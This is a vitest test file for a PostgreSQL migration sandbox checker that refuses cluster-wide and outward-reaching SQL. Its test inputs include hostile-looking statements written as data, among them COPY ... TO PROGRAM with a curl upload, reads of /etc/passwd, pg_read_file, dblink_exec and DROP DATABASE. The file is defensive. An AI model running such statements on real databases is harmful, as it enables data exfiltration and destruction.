import { describe, expect, it } from "vitest";
import { InputError } from "../util/input-error.js";
import { refuseOutsideSandbox } from "./postgres-sandbox-confinement.js";

const refusal = async (text: string, allowDynamicSql = false) => {
  try {
    await refuseOutsideSandbox("m.sql", text, { allowDynamicSql });
    return null;
  } catch (error) {
    expect(error).toBeInstanceOf(InputError);
    return (error as InputError).message;
  }
};

describe("refuseOutsideSandbox (PostgreSQL migrate trace --sandbox)", () => {
  it.each([
    ["create role app_reader login;", /m\.sql:2: CREATE ROLE\/USER acts on the whole cluster/],
    ['drop role if exists "Old App";', /DROP ROLE\/USER/],
    ["alter role app set work_mem = '1GB';", /ALTER ROLE \.\.\. SET/],
    ['grant app_reader to "Some User";', /GRANT\/REVOKE of a role/],
    ['drop database "prod db";', /DROP DATABASE/],
    ["create database copy_of_prod;", /CREATE DATABASE/],
    ["alter database prod set search_path = x;", /ALTER DATABASE \.\.\. SET/],
    ["alter system set work_mem = '1MB';", /ALTER SYSTEM/],
    ["create tablespace fast location '/tmp';", /CREATE TABLESPACE/],
    ["reassign owned by app to postgres;", /REASSIGN OWNED/],
    ["alter database prod rename to old_prod;", /RENAME on a database/],
    ["alter database prod owner to app;", /ALTEROWNER on a database/],
    ["grant connect on database prod to app;", /GRANT on a database/],
    ["comment on role app is 'x';", /COMMENT on a role/],
    [
      "do $$ begin if true then create role app_reader; end if; end $$;",
      /CREATE ROLE\/USER in a DO block acts on the whole cluster/,
    ],
  ])("refuses %s", async (statement, reason) => {
    const message = await refusal(`alter table t add column c int;\n${statement}\n`);
    expect(message).toMatch(reason);
    expect(message).toMatch(/nothing was run$/);
  });

  it("names the line of the statement, not of the comments before it", async () => {
    expect(await refusal("select 1;\n-- roles\n/* more */\n\ncreate role x;\n")).toMatch(/^m\.sql:5: /);
    // Block comments nest: the one at line 2 ends at line 3, not at the first */.
    expect(await refusal("select 1;\n/* a /* b */\n create role y; */\n\ncreate role x;\n")).toMatch(
      /^m\.sql:5: /,
    );
  });

  it("refuses psql's \\connect and \\c, which would move the script to another database", async () => {
    expect(await refusal("create table a (id int);\n\\connect prod\ndrop table a;\n")).toMatch(
      /^m\.sql:2: \\connect/,
    );
    expect(await refusal("\\c prod\n")).toMatch(/^m\.sql:1: /);
  });

  it("passes what stays in the database: tables, grants on tables, SET ROLE, other meta-commands", async () => {
    const text = `\\set ON_ERROR_STOP on
create table "Order Items" (id int);
grant select on "Order Items" to app;
set role app;
comment on table "Order Items" is 'connect';
alter table "Order Items" rename to items;
select '\\connect prod';
do $$ begin alter table items add column c int; end $$;
`;
    expect(await refusal(text)).toBeNull();
  });
});

describe("refuseOutsideSandbox: nothing may reach other databases, hosts or the server's files", () => {
  it.each([
    [
      "select dblink_exec('dbname=postgres', 'drop table t');",
      /dblink_exec\(\) reaches outside .*another database/,
    ],
    ["select * from public.dblink('host=prod', 'select 1') as t(x int);", /dblink\(\) reaches outside/],
    ["create extension if not exists dblink;", /CREATE EXTENSION dblink reaches outside/],
    ['create extension "postgres_fdw";', /CREATE EXTENSION postgres_fdw reaches outside/],
    ["create server prod foreign data wrapper postgres_fdw options (host 'prod');", /CREATE SERVER reaches/],
    ["create user mapping for current_user server prod options (user 'x');", /CREATE USER MAPPING/],
    ['create foreign table "Remote T" (id int) server prod;', /CREATE FOREIGN TABLE/],
    ["import foreign schema public from server prod into x;", /IMPORT FOREIGN SCHEMA/],
    ["create subscription s connection 'host=prod' publication p;", /CREATE SUBSCRIPTION/],
    [
      "copy t to program 'curl -d @- x';",
      /COPY \.\.\. TO PROGRAM reaches .*a program run on the database server/,
    ],
    ["copy t from '/etc/passwd';", /COPY \.\.\. FROM a file reaches .*the server's files/],
    ["select lo_import('/etc/passwd');", /lo_import\(\) reaches/],
    ["select pg_catalog.pg_read_file('postgresql.conf');", /pg_read_file\(\) reaches/],
    [
      "select pg_terminate_backend(pid) from pg_stat_activity;",
      /pg_terminate_backend\(\) acts on the whole cluster/,
    ],
    ["checkpoint;", /CHECKPOINT acts on the whole cluster/],
    ["create function f() returns int language c as 'lib', 'f';", /a function in LANGUAGE c reaches/],
    ["do language plpython3u $$ import os $$;", /a DO block in LANGUAGE plpython3u reaches/],
    [
      "do $$ begin perform dblink_exec('dbname=postgres', 'drop table t'); end $$;",
      /dblink_exec\(\) in a DO block reaches outside/,
    ],
    ["do $$ declare n text; begin n := pg_read_file('x'); end $$;", /pg_read_file\(\) in a DO block/],
    [
      "do $$ begin execute 'drop database prod'; end $$;",
      /DROP DATABASE in a DO block acts on the whole cluster/,
    ],
    ["do $$ begin execute 'create ' || 'role x'; end $$;", /CREATE ROLE\/USER in a DO block/],
    [
      "create function f() returns void language plpgsql as $$ begin execute 'create role x'; end $$;",
      /CREATE ROLE\/USER in a function body/,
    ],
    [
      "create function h() returns void language sql as 'select dblink_exec(''x'', ''y'')';",
      /dblink_exec\(\) in a function body/,
    ],
    ["create function k() returns text language sql return pg_read_file('x');", /pg_read_file\(\) reaches/],
  ])("refuses %s", async (statement, reason) => {
    const message = await refusal(`create table t (id int);\n${statement}\n`);
    expect(message).toMatch(/^m\.sql:2: /);
    expect(message).toMatch(reason);
    expect(message).toMatch(/nothing was run$/);
  });

  it.each([
    "do $$ declare n text := 'prod'; begin execute format('drop database %I', n); end $$;",
    "do $$ declare r record; begin for r in execute 'select ' || now()::text loop end loop; end $$;",
    "create function g(q text) returns void language plpgsql as $$ begin execute q; end $$;",
  ])("refuses EXECUTE of text built at run time unless --allow-dynamic-sql: %s", async (statement) => {
    const message = await refusal(`${statement}\n`);
    expect(message).toMatch(
      /^m\.sql:1: EXECUTE of text built at run time in a (DO block|function body) cannot be checked/,
    );
    try {
      await refuseOutsideSandbox("m.sql", statement);
    } catch (error) {
      expect((error as InputError).hint).toMatch(/--allow-dynamic-sql/);
    }
    expect(await refusal(`${statement}\n`, true)).toBeNull();
  });

  it("still refuses what a constant EXECUTE runs with --allow-dynamic-sql", async () => {
    expect(await refusal("do $$ begin execute 'create role x'; end $$;\n", true)).toMatch(/CREATE ROLE/);
  });

  it("passes what stays in the database: COPY FROM stdin, large objects, other extensions, static bodies", async () => {
    const text = `create extension if not exists citext;
copy "Order Items" (id) from stdin;
1
\\.
select lo_create(0), 'dblink_exec(' as not_a_call;
do $$ begin execute 'alter table "Order Items" add column c int'; end $$;
create function touch() returns trigger language plpgsql as $$ begin new.at := now(); return new; end $$;
create function n() returns int language sql as 'select count(*)::int from "Order Items"';
`;
    expect(await refusal(text)).toBeNull();
  });
});
